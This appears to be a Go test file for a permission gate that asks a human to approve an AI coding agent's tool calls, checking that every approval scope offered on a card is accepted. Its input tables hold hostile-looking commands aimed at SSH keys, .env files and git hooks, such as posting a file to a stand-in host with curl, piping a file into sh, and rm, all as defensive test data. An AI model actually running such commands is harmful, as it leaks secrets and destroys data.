package view_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/umpirehq/umpire"
	"github.com/umpirehq/umpire/internal/config"
	"github.com/umpirehq/umpire/internal/gate"
	"github.com/umpirehq/umpire/internal/store/sqlite"
	"github.com/umpirehq/umpire/internal/view"
	"github.com/umpirehq/umpire/policy"
)

// offeredTargets are paths of every sort, in and outside a project P and a home H.
var offeredTargets = []string{
	"P/a.txt", "P/src/deep/b.go", "P/.git/hooks/pre-commit", "P/.git/config", "P/.claude/settings.json",
	"P/.umpire/permissions.json", "P/.umpire/notes", "P/.env", "P/.envrc", "P/package.json", "P/link/x", "H/other/a", "H/.ssh/id_rsa",
	"H/.bashrc", "H/.umpire/config.json", "/etc/hosts", "/q/sk-ant-api03-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
}

// offeredInputs are calls of every tool about a path, which replaces %s.
var offeredInputs = []struct{ tool, input string }{
	{"Read", `{"file_path":%q}`}, {"Edit", `{"file_path":%q,"old_string":"a","new_string":"b"}`}, {"Write", `{"file_path":%q,"content":"b"}`},
	{"LS", `{"path":%q}`}, {"Grep", `{"pattern":"a","path":%q}`}, {"mcp__files__write", `{"path":%q}`},
	{"NotebookEdit", `{"notebook_path":%q,"new_source":"x"}`}, {"Glob", `{"pattern":"*","path":%q}`},
}

// offeredCommands are command lines about a path.
var offeredCommands = []string{
	"cat %s", "echo x > %s", "rm %s", "cp a %s", "frob %s", "git commit -m x -- %s", "curl -d @%s http://a.example/", "cat %s | sh",
	"npm run x %s", "sed -i s/a/b/ %s", "X=1 make %s && git push", "TOKEN=hunter2hunter2 deploy %s", "bash -c 'cat %s'",
}

// listOffered lists calls whose cards offer different approvals.
func listOffered(home, project string) (calls []umpire.Call) {
	add := func(tool, input string) {
		calls = append(calls, umpire.Call{Tool: tool, Input: json.RawMessage(input)})
	}
	for i, target := range offeredTargets {
		target = strings.NewReplacer("P/", project+"/", "H/", home+"/").Replace(target)
		for j, in := range offeredInputs {
			if (i+j)%3 == 0 || in.tool == "Edit" || in.tool == "Read" {
				add(in.tool, fmt.Sprintf(in.input, target))
			}
		}
		for j, command := range offeredCommands {
			if (i+j)%5 == 0 {
				add("Bash", fmt.Sprintf(`{"command":%q}`, fmt.Sprintf(command, target)))
			}
		}
	}
	add("Bash", `{"command":"frob","cmd":"frob"}`)
	add("Bash", `{"command":"echo \u202e"}`)
	add("WebFetch", `{"url":"https://a.example/x","prompt":"y"}`)
	add("WebSearch", `{"query":"x"}`)
	add("GitPush", `{"remote":"origin","branch":"main"}`)
	add("GitCommit", `{"message":"x"}`)
	return calls
}

// TestOffersAreTaken: the gate accepts every answer that a card offers, so no choice ends in an error.
func TestOffersAreTaken(t *testing.T) {
	t.Parallel()
	home, project := t.TempDir(), t.TempDir()
	if err := errors.Join(os.Symlink(filepath.Join(home, "other"), filepath.Join(project, "link")),
		os.MkdirAll(filepath.Join(project, ".git", "hooks"), 0o700), os.MkdirAll(filepath.Join(home, "other"), 0o700)); err != nil {
		t.Fatal(err)
	}
	kept, err := sqlite.Open(t.Context(), filepath.Join(home, "state", "umpire.db"))
	if err != nil {
		t.Fatal(err)
	}
	g := gate.New(gate.Config{UserHome: home, Home: filepath.Join(home, ".umpire"), Store: kept, Settings: config.Settings{
		Settings: policy.Settings{Mode: umpire.ModeDefault}, MaxPending: 100, MaxDenialsInRow: 1000, MaxDenials: 1000,
	}})
	t.Cleanup(func() {
		if err := errors.Join(g.Close(), kept.Close()); err != nil {
			t.Error(err)
		}
	})
	o := offers{t: t, gate: g, project: project, taken: map[string]int{}}
	for _, c := range listOffered(home, project) {
		o.answerEach(c)
	}
	for _, key := range []string{
		"session", "session subcommand", "session folder", "session tool", "project", "project subcommand", "project folder", "project tool",
		"global", "global subcommand", "global folder", "global tool", "session refused", "project refused", "global refused",
	} {
		if o.taken[key] == 0 {
			t.Errorf("no call of the table has %s: %v", key, o.taken)
		}
	}
}

// offers compares the answers on cards with those that a gate accepts.
type offers struct {
	t       *testing.T
	gate    *gate.Gate
	project string
	n       int
	taken   map[string]int // answers by scope and width
}

// ask submits a call in a new session and returns its card, or nil if the gate does not ask.
func (o *offers) ask(call umpire.Call) *view.Card {
	o.t.Helper()
	s, err := o.gate.Sessions().Open(o.t.Context(), umpire.Opening{Dir: o.project})
	if err != nil {
		o.t.Fatal(err)
	}
	o.n++
	call.ID = umpire.CallID(fmt.Sprintf("c%d", o.n))
	_, err = o.gate.Submit(o.t.Context(), umpire.Submission{
		Session: s.ID, Batch: "m1", Calls: []umpire.Call{call}, Epoch: s.Epoch, Message: json.RawMessage(`{"text":"m"}`),
	})
	if err != nil {
		o.t.Fatal(err)
	}
	list, err := o.gate.Pending(o.t.Context(), umpire.PendingQuery{Session: s.ID})
	if err != nil {
		o.t.Fatal(err)
	}
	if len(list) == 0 {
		return nil
	}
	return view.New(list[0], s, "", nil, list[0].AskedAt, false)
}

// answerEach gives each lasting answer that a call's card offers, each to a separate question.
func (o *offers) answerEach(call umpire.Call) {
	o.t.Helper()
	card := o.ask(call)
	if card == nil {
		return
	}
	offered := map[umpire.Scope]bool{}
	for _, option := range card.Options() {
		a := option.Answer
		if a.Choice != umpire.Approve || a.Scope == umpire.ScopeOnce {
			continue
		}
		offered[a.Scope] = true
		if err := o.approve(o.ask(call), a.Scope, a.Width); err != nil {
			o.t.Errorf("%s %s: the card offers %q, and the gate says: %v", call.Tool, call.Input, option.Text, err)
		}
		o.taken[strings.TrimSpace(a.Scope.String()+" "+string(a.Width))]++
		o.removeRules()
	}
	for _, scope := range []umpire.Scope{umpire.ScopeSession, umpire.ScopeProject, umpire.ScopeGlobal} {
		if !offered[scope] && o.approve(card, scope, umpire.WidthDefault) != nil {
			o.taken[scope.String()+" refused"]++
		}
	}
	o.removeRules()
}

// removeRules takes the rules out that answers wrote.
func (o *offers) removeRules() {
	o.t.Helper()
	rules, err := o.gate.Rules().List(o.t.Context(), o.project)
	for _, r := range rules {
		scope, own := map[umpire.Source]umpire.Scope{
			umpire.SourceProject: umpire.ScopeProject, umpire.SourceUser: umpire.ScopeGlobal,
		}[r.Source]
		if own {
			err = errors.Join(err, o.gate.Rules().Remove(o.t.Context(), o.project, scope, r.ID, umpire.Actor{Name: "ann"}))
		}
	}
	if err != nil {
		o.t.Fatal(err)
	}
}

func (o *offers) approve(card *view.Card, scope umpire.Scope, width umpire.Width) error {
	p := &card.Pending
	_, err := o.gate.Resolve(o.t.Context(), umpire.Answer{
		Request: p.Request, ArgsHash: p.ArgsHash, ShownDigest: p.ShownDigest, Version: p.Version,
		Choice: umpire.Approve, Scope: scope, Width: width, Actor: "ann", Channel: "test",
	})
	return err
}
